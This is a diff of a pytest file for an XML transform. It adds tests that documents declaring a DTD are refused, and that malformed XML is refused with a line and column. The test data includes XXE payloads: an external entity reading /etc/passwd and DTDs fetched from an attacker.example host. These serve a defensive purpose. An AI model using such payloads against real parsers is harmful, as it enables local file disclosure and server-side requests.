@@ -184,17 +184,41 @@ def test_namespaces_cdata_and_mixed_content_keep_xmltodicts_shape() -> None:
     }
 
 
+# A well-formed document the transform accepts, and declarations that, put before its root element, leave it
+# well-formed (no entity is referenced): only refusing the declaration itself can refuse these documents.
+DTD_FREE = b'<?xml version="1.0"?>\n<a><b>x</b></a>'
+DTD_REFUSED = "^the document declares a DTD; DOCTYPE and ENTITY declarations are not accepted$"
+
+
 @pytest.mark.parametrize(
-    "xml",
+    "declaration",
     [
-        b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>',
-        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
-        b"<a><b></a>",
+        b"<!DOCTYPE a>",
+        b'<!DOCTYPE a [<!ENTITY e "x">]>',
+        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+        b'<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd">',
+        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
     ],
 )
-def test_dtds_and_malformed_documents_are_refused(xml: bytes) -> None:
-    with pytest.raises(MalformedDocumentError):
-        run({}, xml)
+def test_a_well_formed_document_that_declares_a_dtd_is_refused_for_its_dtd(declaration: bytes) -> None:
+    # GIVEN a document the transform accepts, and the same document with a DTD between the XML
+    # declaration and the root element
+    assert run({}, DTD_FREE) == {"a": {"b": "x"}}
+    with_dtd = DTD_FREE.replace(b"\n", b"\n" + declaration + b"\n")
+    # WHEN the one with the DTD is transformed
+    # THEN it is refused for declaring a DTD, not as malformed XML
+    with pytest.raises(MalformedDocumentError, match=DTD_REFUSED):
+        run({}, with_dtd)
+
+
+def test_a_malformed_document_is_refused_naming_where_it_breaks() -> None:
+    # GIVEN a document that closes the wrong element
+    # WHEN it is transformed THEN it is refused as not well-formed, with expat's position and reason
+    with pytest.raises(
+        MalformedDocumentError,
+        match=r"^the document is not well-formed XML at line 1, column 8: mismatched tag$",
+    ):
+        run({}, b"<a><b></a>")
 
 
 def test_output_is_ascii_json_with_non_ascii_characters_intact() -> None:
